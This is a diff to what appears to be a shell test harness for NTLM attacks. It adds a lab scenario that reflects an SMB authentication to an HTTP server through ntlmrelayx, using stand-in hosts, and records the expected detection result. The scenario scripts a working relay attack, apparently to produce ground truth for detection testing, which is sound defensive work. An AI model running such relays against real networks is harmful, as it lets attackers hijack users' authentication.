@@ -56,6 +56,18 @@ scenario_reflection_smb_ldap_dc_stripped() {
     expect=tampering:mic expect=tampering:flags "$IMPACKET_TOOLS" notes="The same with the MIC taken out, which Samba refuses."
 }
 
+scenario_reflection_local_call() {
+  record reflection_local_call
+  "$HERE/in_host" srv1 "$CLIENTS/python" "$HERE/local_call.py" server $SRV 8081 > "$RUN/local_call.log" 2>&1 &
+  HELPER=$!
+  wait_for_port srv1 8081
+  relay_on smb -t "http://$SRV:8081/"
+  quietly_on srv1 "$CLIENTS/python" "$HERE/local_call.py" client $EVIL
+  sleep 2
+  truth "${REFLECTED[@]}" expect=reflection:smb-http "$IMPACKET_TOOLS" \
+    notes="LOCAL_CALL across hosts: the victim's NEGOTIATE has its own names, its web server takes it for its own and sets 0x4000 in the CHALLENGE, the AUTHENTICATE is empty. Both ends are stand-ins; the relay is ntlmrelayx."
+}
+
 # Marshalled target names
 
 scenario_marshalled_reflection() {
